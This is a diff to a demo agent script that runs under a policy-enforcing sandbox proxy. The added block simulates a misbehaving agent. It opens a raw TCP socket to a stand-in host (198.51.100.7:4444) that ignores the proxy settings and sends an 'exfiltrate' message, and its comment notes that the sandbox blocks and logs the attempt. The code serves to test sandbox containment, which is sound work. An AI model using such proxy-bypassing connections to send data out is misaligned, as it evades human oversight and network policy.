@@ -5,6 +5,7 @@ publish a package, mutate GitHub through GraphQL) with Python's standard
 library, which honours HTTPS_PROXY and SSL_CERT_FILE like most tools. Run
 under `gvmctl launch`, every request is decided by the policy."""
 import json
+import socket
 import sys
 import urllib.error
 import urllib.request
@@ -43,4 +44,16 @@ for method, url, body in TASKS:
             outcome = f"failed: {e}"
             failures += 1
     print(f"agent: {method:4} {url} -> {outcome}", flush=True)
+
+# What a misbehaving agent tries next: a raw socket that ignores the proxy
+# variables. In a sandbox it reaches the proxy anyway, which finds no tcp:
+# rule for it and resets the connection (and records a deny).
+try:
+    with socket.create_connection(("198.51.100.7", 4444), timeout=10) as raw:
+        raw.sendall(b"exfiltrate\n")
+        got = raw.recv(1)
+    outcome = "connection closed by the proxy" if not got else "answered"
+except OSError as e:
+    outcome = f"refused ({e.strerror or e})"
+print(f"agent: raw TCP 198.51.100.7:4444, no proxy -> {outcome}", flush=True)
 sys.exit(1 if failures else 0)
